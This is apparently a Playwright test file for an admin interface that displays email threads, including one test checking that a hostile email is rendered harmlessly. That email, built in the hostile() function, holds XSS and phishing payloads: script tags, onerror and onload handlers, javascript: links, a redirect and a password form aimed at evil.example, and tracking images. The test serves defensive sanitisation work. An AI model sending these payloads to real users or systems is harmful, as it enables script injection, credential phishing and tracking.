import type { Page } from '@playwright/test';
import { expect, test } from '../fixtures.ts';
import { inspect } from '../support/looks.ts';
import { MAILBOX, USUAL } from '../support/mail.ts';
import { runIsDone, uploadMailbox } from '../support/steps.ts';
import { LOOKS } from '../support/tour.ts';

/** A picture of one pixel. */
const PIXEL = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';

/** A message that tries what mail may try. */
function hostile(): string {
  return [
    'From replybook@mail.example Mon Nov  2 10:00:00 2026',
    'From: Eve <eve@evil.example>', `To: ${MAILBOX}`, 'Subject: Your invoice', `Date: ${new Date().toUTCString()}`,
    'Message-ID: <evil@evil.example>', 'MIME-Version: 1.0', 'Content-Type: multipart/related; boundary=b', '',
    '--b', 'Content-Type: text/html; charset=utf-8', '',
    '<body bgcolor="#eef" onload="top.location=\'/logout\'"><h1 style="color:#224">Your invoice</h1>',
    '<script>top.document.title = "taken over"</script><img src=x onerror="top.document.title=\'taken over\'">',
    '<style>@import url(https://tracker.example/a.css); body{background:url(https://tracker.example/b.png)}</style>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">',
    '<form action="https://evil.example/"><input name="password"><button>Sign in</button></form>',
    '<svg onload="alert(1)"><script>alert(1)</script></svg><iframe src="https://evil.example/"></iframe>',
    '<div style="position:fixed;inset:0;background:url(https://tracker.example/c.png)">It is <b>due</b> today.</div>',
    '<p><img id="own" alt="Our logo" width="40" height="40" src="cid:logo@evil"> <img alt="" src="https://tracker.example/p.png"></p>',
    '<p><a href="javascript:alert(1)">pay</a> <a href="https://shop.example/pay">or here</a></p>',
    '<blockquote type="cite">What was said before</blockquote></body>',
    '--b', 'Content-Type: image/png; name=logo.png', 'Content-Disposition: inline', 'Content-ID: <logo@evil>',
    'Content-Transfer-Encoding: base64', '', PIXEL,
    '--b', 'Content-Type: text/html; name=invoice.html', 'Content-Disposition: attachment; filename=invoice.html', '',
    '<script>alert(1)</script>', '--b--', '', '',
  ].join('\n');
}

test.use({ mail: { files: [{ ...USUAL, content: Buffer.concat([USUAL.content, Buffer.from(hostile())]) }] } });

test('a thread is found, read, and leads to its pairs and back', async ({ admin: page }) => {
  await page.goto('/admin');
  await page.getByRole('link', { name: 'Threads' }).click();
  await expect(page).toHaveTitle('Threads · Replybook');
  await page.getByRole('searchbox').fill('jonas@');
  await page.getByRole('button', { name: 'Search' }).click();
  const threads = page.locator('.threads > li');
  await expect(threads).toHaveCount(1);
  await expect(threads).toContainText('4 messages');
  await threads.getByRole('link').click();
  await expect(page).toHaveTitle(/^Invoice for September is missing/);
  // The latest are open, the others a click away; what is quoted is folded.
  const letters = page.locator('details.letter');
  await expect(letters).toHaveCount(4);
  await expect(letters.nth(3)).toContainText('here is the corrected one');
  await expect(letters.nth(3)).toContainText('Sent by us');
  await expect(letters.nth(1).locator('.preview').getByText('of course: the invoice')).toBeVisible();
  await expect(letters.nth(1).locator('.letter-body')).toBeHidden();
  await letters.nth(1).locator('summary').first().click();
  await expect(letters.nth(1).getByText('I cannot find the invoice')).toBeHidden();
  await letters.nth(1).getByText('Earlier mail').click();
  await expect(letters.nth(1).getByText('I cannot find the invoice')).toBeVisible();
  await page.getByRole('region', { name: 'Training pairs of this thread' }).getByRole('link').first().click();
  await expect(page.getByRole('dialog')).toContainText('Invoice for September is missing');
  await page.getByRole('link', { name: 'Read the whole thread' }).click();
  await expect(page).toHaveTitle(/^Invoice for September is missing/);
});

test('hostile mail is shown and can do nothing', async ({ admin: page, complaints }) => {
  const asked: string[] = [];
  page.on('request', (request) => asked.push(request.url()));
  await page.goto('/admin/threads?q=invoice');
  await page.getByRole('link', { name: 'Your invoice' }).click();
  const mail = page.frameLocator('iframe');
  await expect(mail.getByText('due')).toBeVisible();
  await expect(page.locator('iframe')).toHaveAttribute('sandbox', 'allow-same-origin');
  // The picture that came along is there, although the frame sends no cookies.
  await expect.poll(() => mail.getByAltText('Our logo').evaluate((image: HTMLImageElement) => image.naturalWidth)).toBe(1);
  await expect(mail.getByText('What was said before')).toBeHidden();
  await mail.getByText('Earlier mail').click();
  await expect(mail.getByText('What was said before')).toBeVisible();
  await expect(mail.locator('script, form, input, svg, iframe, meta[http-equiv], base, [onload], [onerror]')).toHaveCount(0);
  await expect(page).toHaveTitle(/^Your invoice/);
  const own = new URL(page.url()).origin;
  expect(asked.filter((url) => !url.startsWith(own) && !url.startsWith('data:')), 'nobody else is asked').toEqual([]);
  expect(complaints).toEqual([]);

  // Pictures of other servers, when a person wants them.
  await page.route('https://tracker.example/**', (route) => route.fulfill({ contentType: 'image/png', body: Buffer.from(PIXEL, 'base64') }));
  await page.getByRole('link', { name: 'Show pictures from other servers' }).click();
  await expect(mail.getByText('due')).toBeVisible();
  await expect.poll(() => asked.filter((url) => url.includes('tracker.example'))).toEqual(['https://tracker.example/p.png']);
  await expect(page.getByRole('link', { name: 'Hide pictures from other servers' })).toBeVisible();
});

test('mail is as high as what is in it', async ({ admin: page }) => {
  const lines = Array.from({ length: 90 }, (_, line) => `<p>Line ${line} of the newsletter</p>`).join('\n');
  const letter = [
    'From replybook@mail.example Mon Nov  2 10:00:00 2026', 'From: News <news@shop.example>', `To: ${MAILBOX}`, 'Subject: A long one',
    `Date: ${new Date().toUTCString()}`, 'Message-ID: <long@shop.example>', 'MIME-Version: 1.0', 'Content-Type: text/html; charset=utf-8', '',
    `<body>${lines}<blockquote type="cite">${'<p>What was said before</p>'.repeat(20)}</blockquote></body>`, '', '',
  ].join('\n');
  await uploadMailbox(page, 'long.mbox', Buffer.from(letter));
  await runIsDone(page);
  await page.goto('/admin/threads?q=newsletter');
  await page.getByRole('link', { name: 'A long one' }).click();
  const frame = page.locator('iframe');
  const mail = page.frameLocator('iframe');
  const over = () => frame.evaluate((one: HTMLIFrameElement) => {
    const root = one.contentDocument?.documentElement;
    return root ? root.scrollHeight - one.clientHeight : Number.NaN;
  });
  await expect(mail.getByText('Line 89')).toBeVisible();
  await expect.poll(over).toBe(0);
  const closed = await frame.evaluate((one) => one.clientHeight);
  expect(closed).toBeGreaterThan(1_500);
  await mail.getByText('Earlier mail').click();
  await expect.poll(() => frame.evaluate((one) => one.clientHeight)).toBeGreaterThan(closed + 200);
  await expect.poll(over).toBe(0);
  await mail.getByText('Earlier mail').click();
  await expect.poll(() => frame.evaluate((one) => one.clientHeight)).toBe(closed);
});

test('a search stays in the address, of older pages and of what it found', async ({ admin: page }) => {
  await page.goto('/admin/threads');
  // A word of a text alone.
  await page.getByRole('searchbox').fill('VAT');
  await page.getByRole('button', { name: 'Search' }).click();
  await expect(page).toHaveURL(/\?account=&q=VAT$/);
  await expect(page.locator('.threads > li')).toHaveCount(1);
  await page.reload();
  await expect(page.getByRole('searchbox')).toHaveValue('VAT');
  await page.locator('.threads').getByRole('link').click();
  await expect(page).toHaveURL(/\/admin\/threads\/[^?]+\?q=VAT$/);
  await page.getByRole('link', { name: 'Open all messages' }).click();
  await page.getByRole('link', { name: 'Back to the search for “VAT”' }).click();
  await expect(page).toHaveURL(/\/admin\/threads\?q=VAT$/);
  await expect(page.locator('.threads > li')).toHaveCount(1);
  await page.goBack();
  await page.goBack();
  await page.goBack();
  await expect(page.getByRole('searchbox')).toHaveValue('VAT');
});

test('a thread says how many of its pairs are in review', async ({ admin: page }) => {
  await page.goto('/admin/threads?q=jonas');
  const thread = page.locator('.threads > li');
  await expect(thread).toContainText('2 pairs in review');
  await page.goto('/admin/ai-email-training');
  const rows = page.locator('tbody').getByRole('row').filter({ hasText: 'Invoice for September' });
  const ids = await rows.locator('form input[name=id]').evaluateAll((fields) => fields.map((field) => (field as HTMLInputElement).value));
  expect(ids).toHaveLength(2);
  for (const [index, words] of ['1 pair in review', '4 messages'].entries()) {
    await page.request.post(`/api/integrations/ai-email-pairs/${ids[index]}/status`, { data: { status: index ? 'rejected' : 'approved' } });
    await page.goto('/admin/threads?q=jonas');
    await expect(thread).toContainText(words);
  }
  await expect(thread).not.toContainText('in review');
});

test('links work on the page of the message itself', async ({ admin: page, context }) => {
  await context.route('https://shop.example/**', (route) => route.fulfill({ contentType: 'text/plain', body: 'the shop' }));
  await page.goto('/admin/threads?q=invoice');
  await page.getByRole('link', { name: 'Your invoice' }).click();
  const [own] = await Promise.all([context.waitForEvent('page'), page.getByRole('link', { name: 'Open in a separate page' }).click()]);
  const [shop] = await Promise.all([context.waitForEvent('page'), own.getByRole('link', { name: 'or here' }).click()]);
  await expect(shop.getByText('the shop')).toBeVisible();
  expect(await shop.evaluate(() => [document.referrer, window.opener])).toEqual(['', null]);
});

test('an attachment is downloaded, never opened', async ({ admin: page }) => {
  await page.goto('/admin/threads?q=invoice');
  await page.getByRole('link', { name: 'Your invoice' }).click();
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('link', { name: 'Download invoice.html' }).click()]);
  expect(download.suggestedFilename()).toBe('invoice.html');
  await expect(page).toHaveTitle(/^Your invoice/);
});

test('deleting an account says how many attachments go with it', async ({ admin: page }) => {
  await page.goto('/admin/integrations');
  await page.getByLabel(/^More actions/).click();
  await page.getByRole('link', { name: /Delete/ }).click();
  await expect(page.getByRole('dialog')).toContainText('2 attachments will be deleted too');
});

for (const colorScheme of ['light', 'dark'] as const) {
  for (const width of [1280, 390]) {
    test.describe(`${colorScheme}, ${width} px`, LOOKS, () => {
      test.use({ colorScheme, viewport: { width, height: 900 } });

      test('the pages can be read by everybody', async ({ admin: page }) => {
        for (const [name, path] of [['threads', '/admin/threads'], ['threads-none', '/admin/threads?q=nothing-like-it']] as const) {
          await page.goto(path);
          await looks(page, `${name}-${colorScheme}-${width}`);
        }
        for (const [name, query] of [['thread', 'jonas'], ['thread-html', 'invoice']] as const) {
          await page.goto(`/admin/threads?q=${query}`);
          await page.locator('.threads a').first().click();
          await looks(page, `${name}-${colorScheme}-${width}`);
        }
      });
    });
  }
}

async function looks(page: Page, name: string): Promise<void> {
  await inspect(page, name);
  await page.screenshot({ path: `shots/${name}.png`, fullPage: true });
}

test('the pages are Russian for who reads Russian', async ({ admin: page, app }) => {
  await page.context().addCookies([{ name: 'lang', value: 'ru', url: app.url }]);
  await page.goto('/admin/threads');
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Переписка');
  await page.getByRole('link', { name: 'Где моя посылка?' }).click();
  await expect(page.getByText('Отправлено нами')).toBeVisible();
});
